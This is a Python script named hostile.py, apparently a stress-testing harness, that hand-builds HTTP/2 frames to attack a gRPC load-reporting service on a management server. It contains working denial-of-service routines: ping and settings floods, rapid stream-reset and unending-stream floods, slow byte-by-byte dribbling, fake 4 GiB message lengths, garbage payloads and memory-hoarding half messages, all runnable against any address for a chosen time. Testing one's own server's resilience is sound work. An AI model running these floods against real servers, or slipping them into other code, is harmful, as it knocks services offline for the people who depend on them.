"""Clients of a management server that mean no good, on raw HTTP/2 frames. As a program:
hostile.py NAME ADDRESS PORT SECONDS"""

import itertools
import socket
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING = 0, 1, 3, 4, 6
END_HEADERS = 4
METHOD = "/envoy.service.load_stats.v3.LoadReportingService/StreamLoadStats"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + \
        payload


def integer(value):
    """RFC 7541, 5.1, with a prefix of seven bits."""
    out = b""
    if value < 127:
        return bytes([value])
    value -= 127
    while value > 127:
        out += bytes([value & 127 | 128])
        value >>= 7
    return b"\x7f" + out + bytes([value])


def field(name, value):
    return b"\x00" + b"".join(integer(len(text)) + text.encode() for text in (name, value))


HEAD = b"".join(field(*pair) for pair in ((":method", "POST"), (":scheme", "http"),
                                          (":authority", "x"), (":path", METHOD),
                                          ("content-type", "application/grpc"), ("te", "trailers")))


def opened(stream):
    return frame(HEADERS, END_HEADERS, stream, HEAD)


def data(stream, content):
    return b"".join(frame(DATA, 0, stream, content[at:at + 16384])
                    for at in range(0, len(content), 16384))


def message(content, length=None):
    return struct.pack(">BI", 0, len(content) if length is None else length) + content


class Gone(Exception):
    """The time is up."""


class Attack:
    def __init__(self, address, port, seconds):
        self.where, self.end = (address, port), time.monotonic() + seconds
        self.kept = []

    def dial(self, hello=PREFACE + frame(SETTINGS, 0, 0)):
        self.left()
        sock = socket.create_connection(self.where, timeout=1)
        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        sock.sendall(hello)
        self.kept.append(sock)
        return sock

    def left(self):
        if time.monotonic() > self.end:
            raise Gone
        return True

    def send(self, sock, content):
        """False: the server has closed, or does not read. What it says is never looked at."""
        self.left()
        try:
            sock.sendall(content)
            return True
        except OSError:
            return False

    def again(self, sock, content):
        """The same over and over; on new connections once the old ones are closed."""
        while self.left():
            if not self.send(sock, content):
                sock.close()
                time.sleep(0.01)
                sock = self.dial()

    # What each does, in a word.

    def pings(self):
        self.again(self.dial(), frame(PING, 0, 0, b"12345678") * 1000)

    def settings(self):
        self.again(self.dial(), frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)) * 1000)

    def never_reads(self):
        for _ in range(20):
            sock = self.dial()
            self.send(sock, opened(1) + data(1, message(b"")))
        self.again(sock, frame(PING, 0, 0, b"12345678") * 1000)

    def resets(self):
        while self.left():
            sock = self.dial()
            for stream in range(1, 10001, 2):
                if not self.send(sock, opened(stream) +
                                 frame(RST_STREAM, 0, stream, struct.pack(">I", 8))):
                    break
            sock.close()

    def streams(self):
        """Thousands, none of which ends."""
        while self.left():
            sock = self.dial()
            for start in range(1, 10001, 100):
                if not self.send(sock, b"".join(map(opened, range(start, start + 100, 2)))):
                    break

    def dribbles(self):
        """A byte at a time: before the first request, and inside a message."""
        fresh = [self.dial(b"P") for _ in range(20)]
        inside = [self.dial() for _ in range(20)]
        for sock in inside:
            self.send(sock, opened(1) + data(1, message(b"", 1000)))
        for at in itertools.count(1):
            for sock in fresh:
                self.send(sock, PREFACE[at % 24:at % 24 + 1])
            for sock in inside:
                self.send(sock, data(1, b"\x12"))
            time.sleep(0.1)

    def lengths(self):
        """Messages of 4 GiB, as they say."""
        while self.left():
            sock = self.dial()
            for stream in range(1, 200, 2):
                self.send(sock, opened(stream) + data(stream, message(b"x" * 1000, 0xffffffff)))
            time.sleep(0.05)
            sock.close()

    def garbage(self):
        while self.left():
            sock = self.dial()
            for stream in range(1, 200, 2):
                if not self.send(sock, opened(stream) + data(stream, message(b"\xff" * 100000))):
                    break
            sock.close()

    def hoards(self):
        """Much more in half messages than a collector keeps."""
        for _ in range(8):
            sock = self.dial()
            for stream in range(1, 20, 2):
                self.send(sock, opened(stream) + data(stream, message(b"\x12" * 8000000, 16000000)))
        while self.left():
            time.sleep(0.1)

    def large(self):
        """Messages that are good, and as dear as may be."""
        entry = b"\x12\x06\x0a\x04"
        content = b"".join(entry + b"%04d" % (i % 10000) for i in range(60000))
        self.again(self.dial(), opened(1) + data(1, message(content)))


NAMES = ("pings", "settings", "never_reads", "resets", "streams", "dribbles", "lengths", "garbage",
         "hoards", "large")


def main():
    name, address, port, seconds = sys.argv[1:]
    try:
        getattr(Attack(address, int(port), float(seconds)), name)()
    except Gone:
        pass


if __name__ == "__main__":
    main()
